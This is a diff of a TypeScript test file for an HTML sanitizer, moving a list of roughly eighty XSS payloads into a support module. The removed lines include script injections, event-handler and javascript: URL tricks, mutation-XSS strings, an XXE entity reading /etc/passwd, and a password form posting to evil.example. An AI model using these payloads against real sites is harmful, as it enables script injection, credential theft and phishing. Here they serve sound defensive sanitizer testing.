@@ -3,87 +3,7 @@ import fc from 'fast-check'
 import { Window } from 'happy-dom'
 import { describe, expect, test } from 'vitest'
 import { isEmptyHtml, plainText, sanitizeHtml } from '@/lib/backend/base/sanitize.ts'
-
-const picture = `/api/app/base/app/file/download/${'a1'.repeat(16)}`
-
-const hostile: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<script\x0dtype="text/javascript">alert(1)</script>',
-  '<<script>alert(1)//<</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<img src="https://evil.example/pixel.gif">',
-  '<img src="//evil.example/pixel.gif">',
-  `<img src="${picture}/../../../user/logout">`,
-  '<img/src/onerror=alert(1)>',
-  '<img src=`x`onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<applet code="Evil.class"></applet>',
-  '<base href="https://evil.example/">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<style>@import "https://evil.example/x.css";body{display:none}</style>',
-  '<style><img src="</style><img src=x onerror=alert(1)//">',
-  '<form action="https://evil.example"><input name=password><button>登录</button></form>',
-  '<button formaction=javascript:alert(1)>x</button>',
-  '<isindex type=image src=1 onerror=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="\x01javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="/\\evil.example">x</a>',
-  '<a href="\\\\evil.example">x</a>',
-  '<a href="blob:https://evil.example/1">x</a>',
-  '<a href="file:///etc/passwd">x</a>',
-  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
-  '<a href="https://ok.example" ping="https://evil.example">x</a>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<p style="width:expression(alert(1))">x</p>',
-  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
-  '<span style="color:red;background-image:url(https://evil.example/p.gif)">x</span>',
-  '<span style="color:rgb(1,2,3)/**/;behavior:url(x.htc)">x</span>',
-  '<div onmouseover="alert(1)">x</div>',
-  '<p onpointerrawupdate=alert(1)>x</p>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<video><source onerror="alert(1)"></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<template><script>alert(1)</script></template>',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
-  '<title><a href="</title><img src=x onerror=alert(1)>">',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><script>alert(1)</script>',
-  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
-  '<p id="login" class="ant-modal" name="cookie" data-x="1">x</p>',
-  '<img name=getElementById src=x>',
-  '<portal src="https://evil.example"></portal>',
-  '<custom-element onclick=alert(1)>x</custom-element>',
-]
+import { hostileHtml, ownPicture } from '../support/hostile-html.ts'
 
 /** What a browser would make of the text: no element, attribute or address beyond the allowed ones. */
 function findHarm(html: string): string[] {
@@ -94,7 +14,8 @@ function findHarm(html: string): string[] {
     const tag = element.tagName.toLowerCase()
     if (/^(?:script|style|iframe|object|embed|svg|math|form|input|button|link|meta|base|template|video|audio|details|textarea)$/.test(tag))
       harm.push(tag)
-    for (const { name, value } of element.attributes) {
+    for (const { name, value: given } of element.attributes) {
+      const value = given ?? ''
       if (/^on|^(?:srcdoc|ping|action|formaction|background|xlink:href|id|class|name)$|^data-/i.test(name)) harm.push(`${tag} ${name}`)
       if (name === 'href' && !/^(?:https?:\/\/|mailto:|[/?#]|\.{1,2}\/)/i.test(value)) harm.push(`${tag} href ${value}`)
       if (name === 'href' && /^\/[/\\]/.test(value)) harm.push(`${tag} href ${value}`)
@@ -106,7 +27,7 @@ function findHarm(html: string): string[] {
 }
 
 describe('hostile rich text', () => {
-  test.each(hostile)('%s', (html) => {
+  test.each(hostileHtml)('%s', (html) => {
     const clean = sanitizeHtml(html)
     expect(findHarm(clean)).toEqual([])
     expect(clean).not.toMatch(/<script|javascript:|vbscript:|onerror\s*=\s*[^"]*alert\(1\)>|srcdoc/i)
@@ -126,7 +47,7 @@ describe('hostile rich text', () => {
 
   test('pieces of markup put together in any order stay harmless and settle at once', () => {
     const piece = fc.oneof(
-      fc.constantFrom(...hostile),
+      fc.constantFrom(...hostileHtml),
       fc.constantFrom(
         '<p>',
         '</p>',
@@ -181,8 +102,8 @@ describe('ordinary formatting', () => {
   })
 
   test('own pictures stay, with their size and words', () => {
-    expect(sanitizeHtml(`<img src="${picture}" alt="现场" width="640" height="360">`)).toBe(
-      `<img src="${picture}" alt="现场" loading="lazy" width="640" height="360" />`,
+    expect(sanitizeHtml(`<img src="${ownPicture}" alt="现场" width="640" height="360">`)).toBe(
+      `<img src="${ownPicture}" alt="现场" loading="lazy" width="640" height="360" />`,
     )
   })
 
@@ -203,5 +124,5 @@ test('plain text is one line of a given length, with its signs', () => {
   expect(plainText('<h2>标题</h2><p>第一段 &amp; 1 &lt; 2</p><script>x</script>', 50)).toBe('标题 第一段 & 1 < 2')
   expect(plainText(`<p>${'字'.repeat(30)}</p>`, 10)).toBe(`${'字'.repeat(9)}…`)
   expect(isEmptyHtml('<p> <br></p>')).toBe(true)
-  expect(isEmptyHtml(`<p><img src="${picture}"></p>`)).toBe(false)
+  expect(isEmptyHtml(`<p><img src="${ownPicture}"></p>`)).toBe(false)
 })
